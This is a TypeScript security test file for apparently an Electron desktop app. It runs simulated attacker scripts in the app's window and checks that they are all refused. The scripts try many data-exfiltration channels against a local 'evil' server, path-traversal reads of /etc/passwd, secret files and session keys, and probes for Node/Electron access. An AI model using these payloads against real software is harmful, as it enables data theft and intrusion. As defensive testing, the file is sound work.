/**
 * What a page can do whose script is an attacker's. Everything here runs within the window of the real program, with its session.
 * What another site can do is told by loopback-browser.test.ts.
 */
import { createSocket } from 'node:dgram';
import { rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { type AddressInfo, createServer as createTcpServer } from 'node:net';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildPreload } from '../../scripts/build-preload.ts';
import { openPassphraseVault } from '../../src/main/shell/desktop/passphrase-vault.ts';
import { findRunning } from '../../src/main/shell/running-file.ts';
import type { Answer } from '../../src/shared/client.ts';
import { contract } from '../../src/shared/contract.ts';
import { openDesktop } from '../support/desktop-driver.ts';
import { closeChromium } from '../support/electron-stand-in/chromium.ts';
import { copyHome } from '../support/prepared-homes.ts';
import { type Outside, tryEveryWayOut, WITHOUT_NAVIGATION } from '../support/ways-out.ts';
import { type Window, withWorkstation } from '../support/workstation.ts';

const SECRET = 'the secret of the vault, 7d1f0c';
const FILE_SECRET = 'nobody may read this file, 5b2e99';
const workstation = withWorkstation('sample', ['--sample']);
/** What reached the attacker's own server. */
const stolen: string[] = [];
let evil: Server;
let evilPort: number;
let outside: Outside & { close(): void };
let window: Window;

beforeAll(async () => {
  evil = createServer(({ method, url }, response) => {
    stolen.push(`${method} ${url}`);
    const headers = { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/html' };
    response.writeHead(200, headers).end('<link rel="icon" href="data:,">');
  });
  evil.on('upgrade', ({ url }, socket) => {
    stolen.push(`upgrade ${url}`);
    socket.destroy();
  });
  await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve));
  evilPort = (evil.address() as AddressInfo).port;
  outside = { origin: `http://127.0.0.1:${evilPort}`, ...(await listenRaw()) };
  const { home } = workstation();
  writeFileSync(join(home, 'secret.txt'), FILE_SECRET);
  writeFileSync(join(home, 'demo', 'reports', '0123456789ab.txt'), FILE_SECRET);
  const vault = await openPassphraseVault(home, 'a passphrase of the test');
  await vault.put('kraken', SECRET);
}, 60_000);
afterAll(async () => {
  outside.close();
  evil.closeAllConnections();
  await new Promise((resolve) => evil.close(resolve));
});

/** Runs an attacker's script in the page and returns what came of it. */
const attack = <Result>(script: string): Promise<Result> =>
  window.page.evaluate(`(async () => { ${HELPERS} ${script} })()`);

/** `outcome` tells how a promise ended; `post` makes a call as the renderer does. */
const HELPERS = `
  const within = (ms, promise) => Promise.race([promise, new Promise((end) => setTimeout(end, ms, 'nothing'))]);
  const outcome = (promise) => within(5000, Promise.resolve(promise).then((value) => value, () => 'refused'));
  const read = (address, init) => outcome(fetch(address, init).then((response) => response.text()));
  const post = async (name, input) => {
    const headers = { 'content-type': 'application/json' };
    const response = await fetch('/v1/' + name, { method: 'POST', headers, body: JSON.stringify(input) });
    return { status: response.status, ...(await response.json()) };
  };
`;

async function openVictim(place: string, before?: Change): Promise<void> {
  window = await workstation().openWindow({
    place,
    ...(before === undefined ? {} : { before: async (page) => void (await before(page)) }),
  });
  if (before !== withoutProgram) await window.settle();
  // the attacks are refused, and the browser says so
  window.expectProblem(
    /content policy|Content Security Policy|Failed to load|Not allowed to (load|navigate)|Navigation was aborted|Maximum call stack|^console: (Blocked opening|Refused|Fetch API|Connecting|Framing|Loading|Sending|Creating|This document requires 'Trusted)/,
  );
  stolen.length = 0;
}

type Change = (page: Page) => Promise<unknown>;

/** Answers the page with other headers, and another text where one is given. */
const servePage = (page: Page, change: (headers: Record<string, string>) => Record<string, string>, body?: string) =>
  page.route(
    ({ pathname }) => pathname === '/',
    async (route) => {
      const response = await route.fetch();
      await route.fulfill({ response, headers: change(response.headers()), ...(body === undefined ? {} : { body }) });
    },
  );
const withoutAllowList = (page: Page): Promise<unknown> =>
  servePage(page, ({ 'connection-allowlist': _, ...headers }) => headers);
const withoutProgram = (page: Page): Promise<unknown> =>
  servePage(
    page,
    ({ 'content-security-policy': policy = '', ...headers }) => ({
      ...headers,
      'content-security-policy': policy.replace(/^sandbox [^;]*; /, ''),
    }),
    '<!doctype html><title>Empty</title><body></body>',
  );
/** Either half of the locks holds alone. */
const LOCKS: [string, Change | undefined][] = [
  ['as it is', undefined],
  ['in a browser that does not know connection allow-lists', withoutAllowList],
  ['with the connection allow-list alone', withoutProgram],
];

describe('a script of an attacker', () => {
  it('sends nothing to another origin', async () => {
    await openVictim('/market');
    const results = await attack<Record<string, unknown>>(`
      const evil = 'http://127.0.0.1:${evilPort}/';
      const add = (tag, values) => {
        const element = document.createElement(tag);
        const end = new Promise((resolve, reject) => Object.assign(element, { onload: () => resolve('loaded'), onerror: reject }));
        const set = () => Object.assign(element, values);
        try { set(); } catch { return 'refused'; }
        document.body.append(element);
        return outcome(end);
      };
      const made = (body) => { try { return body(); } catch { return 'refused'; } };
      const results = {
        fetch: await read(evil + 'fetch?' + document.title),
        blind: await read(evil + 'blind', { mode: 'no-cors', method: 'POST', body: 'x' }),
        keepalive: await read(evil + 'keepalive', { keepalive: true, method: 'POST', body: 'x' }),
        request: await outcome(new Promise((resolve, reject) => {
          const request = new XMLHttpRequest();
          Object.assign(request, { onload: () => resolve('sent'), onerror: reject });
          request.open('GET', evil + 'request');
          request.send();
        })),
        image: await add('img', { src: evil + 'image' }),
        script: await add('script', { src: evil + 'script' }),
        style: await add('link', { rel: 'stylesheet', href: evil + 'style' }),
        video: await add('video', { src: evil + 'video' }),
        socket: await outcome(new Promise((resolve, reject) => {
          const socket = new WebSocket(evil.replace('http', 'ws') + 'socket');
          Object.assign(socket, { onopen: () => resolve('open'), onerror: reject });
        })),
        events: await outcome(new Promise((resolve, reject) => {
          const source = new EventSource(evil + 'events');
          Object.assign(source, { onopen: () => resolve('open'), onerror: () => { source.close(); reject(); } });
        })),
        font: await outcome(new FontFace('stolen', 'url(' + evil + 'font)').load().then(() => 'loaded')),
        worker: await outcome(new Promise((resolve, reject) => {
          const code = new Blob(["fetch('" + evil + "worker')"], { type: 'text/javascript' });
          const worker = made(() => new Worker(URL.createObjectURL(code)));
          if (worker === 'refused') return reject();
          worker.onerror = reject;
        })),
      };
      navigator.sendBeacon(evil + 'beacon', 'x');
      document.body.style.backgroundImage = 'url(' + evil + 'background)';
      for (const rel of ['prefetch', 'preload', 'modulepreload', 'icon', 'manifest']) {
        document.head.append(Object.assign(document.createElement('link'), { rel, as: 'image', href: evil + rel }));
      }
      for (const [tag, name] of [['iframe', 'src'], ['embed', 'src'], ['object', 'data']]) {
        made(() => document.body.append(Object.assign(document.createElement(tag), { [name]: evil + tag })));
      }
      const form = Object.assign(document.createElement('form'), { action: evil + 'form', method: 'post', target: '_blank' });
      document.body.append(form);
      form.submit();
      return results;
    `);
    expect([...new Set(Object.values(results))]).toEqual(['refused']);
    await quiet();
    expect(stolen).toEqual([]);
  });

  it.each(LOCKS)('finds no way out of its window, %s', async (_, before) => {
    await openVictim('/market', before);
    const { page } = window;
    const address = page.url();
    const isBare = before === withoutProgram;
    // the same page to the end: a navigation that began would end the script
    const script = tryEveryWayOut(outside, ...(isBare ? [WITHOUT_NAVIGATION] : []));
    const tried = (await page.evaluate(script)) as string[];
    expect(new Set(tried).size).toBe(tried.length);
    expect(tried.length).toBeGreaterThan(isBare ? 7 : 60);
    await quiet();
    expect(stolen).toEqual([]);
    expect(new URL(page.url()).origin).toBe(new URL(address).origin);
    // the network alone refuses what a window would load, not the window
    if (!isBare) expect(page.context().pages()).toEqual([page]);
  });

  it('finds no way out where its stack is full, so that nothing of the program can run', async () => {
    await openVictim('/market');
    const { page } = window;
    const full = `{
      let count = 0;
      const fill = () => {
        try { fill(); } catch {}
        count += 1;
        if (count < 50) try { location.href = '${outside.origin}/full' + count; } catch {}
      };
      fill();
    }`;
    // whether the browser goes nowhere, or to a page of its own that says so
    await page.evaluate(full).catch(() => undefined);
    await quiet();
    expect(stolen).toEqual([]);
  });

  it('reads no file', async () => {
    await openVictim('/data');
    const { home } = workstation();
    const texts = await attack<unknown[]>(`
      const home = ${JSON.stringify(home)};
      const files = ['/etc/passwd', home + '/secret.txt', home + '/session.key', home + '/vault.json', home + '/running.json'];
      const found = [];
      for (const file of files) {
        found.push(await read('file://' + file), await read(file), await read('/..' + file), await read('/%2e%2e' + file));
        found.push(await post('imports.run', { paths: [file] }), await post('imports.run', { paths: ['file://' + file] }));
        found.push(await post('backups.verify', { id: '../' + file }), await post('backups.restore', { id: '../..' + file }));
        found.push(await post('backtests.run', { reportPath: file }), await read('/reports/' + encodeURIComponent('../..' + file)));
        found.push(await post('bench.run', { name: 'panel', dataPath: file }));
        try {
          const frame = document.createElement('iframe');
          frame.src = 'file://' + file;
          document.body.append(frame);
          await within(1000, new Promise((end) => { frame.onload = end; }));
          found.push(frame.contentDocument?.body?.textContent ?? 'refused');
        } catch { found.push('refused'); }
        const upload = '/v1/files?' + new URLSearchParams({ name: '../../' + file, batch: 'a' });
        found.push(await read(upload, { method: 'PUT', body: 'mine' }));
      }
      // an upload of one's own, and then a guess where it lies
      const put = await (await fetch('/v1/files?name=mine.csv&batch=b', { method: 'PUT', body: 'date,open\\n' })).json();
      const handle = put.value.handle;
      for (const path of [handle + '/../../secret.txt', handle + '/', '/../' + handle, 'grant:' + '0'.repeat(32), 'uploads']) {
        found.push(await post('imports.run', { paths: [path] }));
      }
      found.push(await read('/uploads/b/mine.csv'), await read('/reports/0123456789ab'), await read('/secret.txt'));
      await post('workspaces.open', { id: 'own' });
      const imported = await post('imports.run', { paths: [handle] });
      await post('workspaces.open', { id: 'sample' });
      return [...found, imported];
    `);
    const text = JSON.stringify(texts);
    for (const secret of [FILE_SECRET, 'root:x:', ...secrets()]) expect(text).not.toContain(secret);
    const calls = texts.filter((value): value is Answer => typeof value === 'object');
    // the last is an honest import of the page's own upload
    expect(calls.slice(0, -1).map(({ ok }) => ok)).not.toContain(true);
    expect(calls.at(-1)).toMatchObject({ ok: true, value: { inserted: 0 } });
    // nor is there a word of where the files lie
    expect(JSON.stringify(calls.at(-1))).not.toContain(home);
  });

  it('finds nothing of Node, of Electron or of the machine', async () => {
    await openVictim('/market');
    const seen = await attack(`
      const names = ['require', 'process', 'module', 'Buffer', 'global', 'electron', 'indexsmith', '__dirname', 'ipcRenderer'];
      return {
        globals: names.filter((name) => name in globalThis),
        modules: await Promise.all(['node:fs', 'fs', 'electron', 'data:text/javascript,export default 1'].map((name) =>
          import(name).then(() => name, () => 'refused'))),
        code: (() => { try { return new Function('return 1')(); } catch { return 'refused'; } })(),
        markup: (() => { try { document.body.innerHTML = '<b>x</b>'; return 'taken'; } catch { return 'refused'; } })(),
      };
    `);
    expect(seen).toEqual({
      globals: [],
      modules: ['refused', 'refused', 'refused', 'refused'],
      code: 'refused',
      markup: 'refused',
    });
  });

  it('calls nothing that is not on the contract', async () => {
    await openVictim('/market');
    const names = [
      'drafts.destroy',
      '__proto__',
      'constructor',
      'data.changed',
      'bench.run',
      'system',
      '',
      '../links',
      'store.query',
    ];
    const answers = await attack<{ name: string; ok: boolean }[]>(`
      const answers = [];
      for (const name of ${JSON.stringify(names)}) {
        const address = '/v1/' + name;
        const headers = { 'content-type': 'application/json' };
        for (const method of ['GET', 'POST', 'PUT', 'DELETE']) {
          const response = await fetch(address, { method, ...(method === 'GET' ? {} : { headers, body: '{}' }) });
          answers.push({ name: method + ' ' + name, ok: response.ok });
        }
      }
      return answers;
    `);
    expect(answers.filter(({ ok }) => ok)).toEqual([]);
    expect(answers).toHaveLength(4 * names.length);
  });

  it('sees no key: neither in an answer, nor in an event, nor in the log, nor in the browser', async () => {
    await openVictim('/settings');
    const queries = Object.entries(contract).flatMap(([name, { kind }]) => (kind === 'query' ? [name] : []));
    const answers = await attack<Record<string, unknown>>(`
      const answers = {};
      for (const name of ${JSON.stringify(queries)}) answers[name] = await post(name, {});
      answers.log = await post('logs.list', { limit: 5000, level: 'debug' });
      answers.browser = {
        cookie: document.cookie,
        stored: JSON.stringify({ ...localStorage }) + JSON.stringify({ ...sessionStorage }),
        databases: await indexedDB.databases(),
        caches: await caches.keys(),
        page: document.documentElement.outerHTML,
        address: location.href,
      };
      return answers;
    `);
    // most answer by default; those that need an id say so
    expect(Object.values(answers).filter((answer) => (answer as Answer).ok).length).toBeGreaterThan(15);
    const text = JSON.stringify(answers);
    for (const secret of [SECRET, FILE_SECRET, ...secrets()]) expect(text).not.toContain(secret);
    expect(answers.browser).toMatchObject({ cookie: '', databases: [], caches: [] });
  });
});

describe('the desktop', () => {
  it('opens no foreign page, in its window or in another', async () => {
    await openVictim('/market');
    const home = await copyHome('empty');
    await buildPreload('build/preload');
    const desktop = await openDesktop(home);
    stolen.length = 0;
    const { page } = desktop;
    await page.waitForSelector('main');
    const before = await page.evaluate('location.origin');
    const tried = (await page.evaluate(tryEveryWayOut(outside))) as string[];
    expect(tried.length).toBeGreaterThan(60);
    await quiet();
    expect(stolen).toEqual([]);
    expect(await page.evaluate('location.origin')).toBe(before);
    await desktop.quit();
    await closeChromium();
    rmSync(home, { recursive: true });
  });
});

/** Returns every key of the running program. */
function secrets(): string[] {
  const { home, sessionKey } = workstation();
  return [sessionKey, findRunning(home)?.key ?? 'none'];
}

/** Listens for what is no request: connections, and packets. */
async function listenRaw(): Promise<{ tcpPort: number; udpPort: number; close(): void }> {
  const tcp = createTcpServer((socket) => {
    socket.on('error', () => undefined);
    stolen.push('connection');
    socket.destroy();
  });
  const udp = createSocket('udp4', () => stolen.push('packet'));
  await new Promise<void>((resolve) => tcp.listen(0, '127.0.0.1', resolve));
  await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve));
  const close = (): void => {
    tcp.close();
    udp.close();
  };
  return { tcpPort: (tcp.address() as AddressInfo).port, udpPort: udp.address().port, close };
}

/** Waits until what was sent before would have arrived: the browser itself reaches the attacker, in a page of his own. */
async function quiet(): Promise<void> {
  const page = await window.page.context().newPage();
  await page.goto(`http://127.0.0.1:${evilPort}/probe`);
  const before = [...stolen];
  await page.evaluate(`{
    const iceServers = [
      { urls: 'stun:127.0.0.1:${outside.udpPort}' },
      { urls: 'turn:127.0.0.1:${outside.tcpPort}?transport=tcp', username: 'a', credential: 'b' },
    ];
    globalThis.peer = new RTCPeerConnection({ iceServers });
    peer.createDataChannel('probe');
    peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  }`);
  const arrived = () => stolen.slice(before.length);
  await expect.poll(() => ['connection', 'packet'].every((what) => arrived().includes(what))).toBe(true);
  await page.close();
  expect(before).toContain('GET /probe');
  stolen.splice(0, stolen.length, ...before.filter((what) => what !== 'GET /probe'));
}
